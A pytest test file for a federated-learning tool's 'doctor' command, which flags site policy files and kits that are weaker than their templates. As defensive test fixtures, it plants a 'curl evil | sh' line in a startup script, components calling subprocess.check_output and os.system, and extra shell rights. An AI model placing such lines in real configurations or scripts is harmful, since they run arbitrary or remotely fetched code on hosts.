"""`fedvox doctor` names what a site's own files let through that the templates do not."""

import json
import shutil
from pathlib import Path

import pytest

from fedvox.doctor.kit import check_seal, open_kit
from fedvox.doctor.local import check_local
from fedvox.doctor.policies import check_policies
from fedvox.doctor.run_check import run_check
from fedvox.finding import FAIL, PASS, WARN, Finding

FILTER = {"path": "fedvox.flare.outgoing.OutgoingFilter"}


@pytest.fixture
def kit(clean_kits, tmp_path) -> Path:
    """A site's kit, to be damaged."""
    return Path(shutil.copytree(clean_kits.kit("site-1"), tmp_path / "kit"))


@pytest.fixture
def policies(kit):
    """A function to the finding about the kit's policies."""
    return lambda: run_check("policies", lambda: check_policies(open_kit(kit)))


def complaint(finding: Finding, *words: str) -> Finding:
    """Demands a complaint with certain words and a remedy."""
    assert finding.status == FAIL and finding.remedy
    assert all(word in finding.message for word in words), finding.message
    return finding


def test_the_templates_are_no_fault_and_a_weakened_one_ends_the_command(found, doctor, place):
    assert doctor()[1]["policies"]["status"] == PASS
    (place.local / "authorization.json").write_text('{"permissions": []}')
    assert found("policies", "authorization.json")[0] == 1


@pytest.mark.parametrize(
    ("name", "change", "words"),
    [
        ("privacy.json", {"scopes": []}, "outgoing filter"),
        ("privacy.json", {"scopes": [{"task_data_filters": [FILTER]}]}, "outgoing filter"),
        ("privacy.json", {"scopes": [{"task_result_filters": [FILTER]}]}, "received model"),
        ("resources.json", {"class_allow_list": ["*"]}, "allows *"),
        ("resources.json", {"class_allow_list": ["fedvox."]}, "allows fedvox."),
        ("resources.json", {"class_allow_list": None}, "class_allow_list"),
        ("resources.json", {"components": []}, "kit_guard"),
        ("resources.json", {"class_list_enforcement_mode": "warn"}, "does not enforce"),
        ("resources.json", {"allow_log_streaming": True}, "streams"),
        ("resources.json", {"class_allow_list": ["fedvox.flare"]}, "allows fedvox.flare"),
        ("resources.json", {"class_allow_list": ["subprocess.Popen"]}, "allows subprocess.Popen"),
        ("resources.json", {"class_allow_list": ["a.b.run"]}, "allows a.b.run"),
        ("resources.json", {"class_allow_list": [["a"]]}, "allows ['a']"),
        ("resources.json", {"app_validator": {"path": "a.B"}}, "runs a.B, which no template"),
        ("resources.json", {"x": {"args": {"y": {"class_path": "a.B"}}}}, "runs a.B"),
        ("privacy.json", {"components": [{"id": "x", "path": "a.B"}]}, "privacy.json runs a.B"),
        ("privacy.json", {"default_scope": "nope"}, "default_scope"),
        ("privacy.json", {"default_scope": ""}, "default_scope"),
        ("privacy.json", {"scopes": ["fedvox"]}, "outgoing filter"),
        ("privacy.json", {"scopes": ["x"], "default_scope": "nope"}, "outgoing filter"),
        ("log_config.json", {"filters": {"x": {"()": "os.system"}}}, "runs os.system"),
        ("log_config.json", {"formatters": {}}, "redact"),
        ("log_config.json", {"handlers": {"x": {"formatter": "y"}}}, "redact"),
        ("authorization.json", {"permissions": []}, "authorization.json"),
    ],
)
def test_a_weakened_policy_is_named(policies, kit, name, change, words):
    path = kit / "local" / name
    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
    complaint(policies(), words)


def edit(path, change):
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def test_a_foreign_component_fails_although_the_allow_list_names_it(policies, kit):
    def plant(content):
        content["class_allow_list"].append("subprocess.check_output")
        entry = {"id": "x", "path": "subprocess.check_output", "args": {"args": ["id"]}}
        content["components"].append(entry)

    edit(kit / "local/resources.json", plant)
    words = "resources.json runs subprocess.check_output", "allows subprocess.check_output"
    complaint(policies(), *words)
    assert check_local(open_kit(kit)).message.endswith("local/resources.json: changed")


def test_a_disabled_guard_does_not_count(policies, kit):
    edit(kit / "local/resources.json", lambda c: c["components"][0].update(disabled=True))
    complaint(policies(), "kit_guard")


@pytest.mark.parametrize("chain", ["task_data_filters", "task_result_filters"])
def test_a_disabled_filter_does_not_count(policies, kit, chain):
    edit(kit / "local/privacy.json", lambda c: c["scopes"][0][chain][0].update(disabled=True))
    complaint(policies(), "privacy.json does not")


@pytest.mark.parametrize(
    "path",
    ["nvflare.app_common.filters.exclude_vars.ExcludeVars", "fedvox.flare.noise.NoisyUpdate"],
)
def test_a_privacy_filter_of_flare_or_of_this_package_may_be_added(policies, kit, path):
    more = {"path": path, "args": {}}
    chain = "task_result_filters"
    edit(kit / "local/privacy.json", lambda c: c["scopes"][0][chain].append(more))
    assert policies().status == PASS


def test_attachments_beside_noise_are_told_before_a_round_is_lost(found, doctor, place):
    site, noise = place.local / "fedvox_site.json", {"path": "fedvox.flare.noise.NoisyUpdate"}
    edit(site, lambda c: c.update(attachments=["prototypes"]))
    edit(
        place.local / "privacy.json",
        lambda c: c["scopes"][0]["task_result_filters"].append({**noise, "args": {}}),
    )
    assert doctor()[1]["data"]["status"] == PASS  # the job asks for none
    job = place.job / "app/config/training.json"
    edit(job, lambda c: c.update(network={"name": "mixmodal", "channels": [16, 32]}))
    edit(job, lambda c: c["data"].update(channels=["ct", "mr"], missing_channels=True))
    assert found("data", "lists prototypes, which the noise")[0] == 1


def test_one_more_class_is_a_warning_by_name(policies, kit):
    path = kit / "local/resources.json"
    edit(path, lambda c: c["class_allow_list"].append("hospital.widgets.Counter"))
    finding = policies()
    assert finding.status == WARN
    assert "hospital.widgets.Counter" in finding.message


@pytest.mark.parametrize(
    ("role", "right", "who"),
    [
        ("member", "submit_job", "any"),
        ("org_admin", "shell_commands", "o:other"),
        ("x", "cat", "any"),
    ],
)
def test_a_right_that_the_template_does_not_grant_is_named(policies, kit, role, right, who):
    path = kit / "local/authorization.json"
    policy = json.loads(path.read_text())
    policy["permissions"].setdefault(role, {})[right] = who
    path.write_text(json.dumps(policy))
    finding = complaint(policies(), f"authorization.json grants {role} {right} {who}")
    assert "provisioning/policies" in finding.remedy


@pytest.mark.parametrize("right", ["byoc", "BYOC", " Byoc "])
def test_carried_code_that_a_kit_was_built_with_is_told_and_no_fault(policies, kit, right):
    path = kit / "local/authorization.json"
    policy = json.loads(path.read_text())
    del policy["permissions"]["lead"]["byoc"]
    policy["permissions"]["lead"][right] = "any"
    path.write_text(json.dumps(policy))
    finding = policies()
    assert (finding.status, finding.message) == (PASS, "carried code is allowed for lead")


def test_a_changed_byte_in_the_kit_is_named(kit):
    path = kit / "startup/sub_start.sh"
    content = bytearray(path.read_bytes())
    content[40] ^= 1
    path.write_bytes(content)
    complaint(run_check("kit", lambda: check_seal(open_kit(kit))), "startup/sub_start.sh: changed")


def test_a_resealed_kit_is_refused(kit):
    from fedvox.flare.kit_guard import PARTS
    from fedvox.manifest import MANIFEST, write_manifest

    (kit / "startup/start.sh").write_text("curl evil | sh")
    write_manifest(kit, kit / MANIFEST, PARTS)
    found = run_check("kit", lambda: check_seal(open_kit(kit)))
    complaint(found, "not signed by the project's root CA")
